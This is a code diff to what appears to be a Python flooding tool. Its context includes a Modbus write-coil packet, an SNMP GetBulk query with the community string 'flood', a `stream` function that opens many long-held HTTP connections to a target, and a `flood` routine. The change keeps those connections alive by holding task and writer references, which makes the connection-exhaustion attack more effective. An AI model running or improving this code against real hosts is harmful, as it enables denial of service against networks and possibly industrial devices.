@@ -24,6 +24,8 @@ WRITE_COIL = struct.pack(">BHH", 5, 0, 0xFF00)
 SNMP_QUESTION = bytes.fromhex(
     "30290201010405666c6f6f64a51d0203782e320201000201143010300e060a2b06010401bb400101000500"
 )
+#: Held here: nothing else holds who reads a stream, and what is collected reads no more.
+_READING: set[asyncio.Future[None]] = set()
 
 
 class Manager(asyncio.DatagramProtocol):
@@ -58,12 +60,14 @@ async def stream(host: str, port: int) -> None:
     for _ in range(STREAMS):
         reader, writer = await asyncio.open_connection(host, port)
         writer.write(b"GET /api/stream HTTP/1.1\r\nHost: %s\r\n\r\n" % host.encode())
-        asyncio.ensure_future(_read_all(reader))
+        _READING.add(asyncio.ensure_future(_read_all(reader, writer)))
 
 
-async def _read_all(reader: asyncio.StreamReader) -> None:
+async def _read_all(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    # The writer is held as long: without it the connection may be closed.
     while await reader.read(65536):
         pass
+    writer.close()
 
 
 async def flood(kind: str, host: str, port: int) -> None:
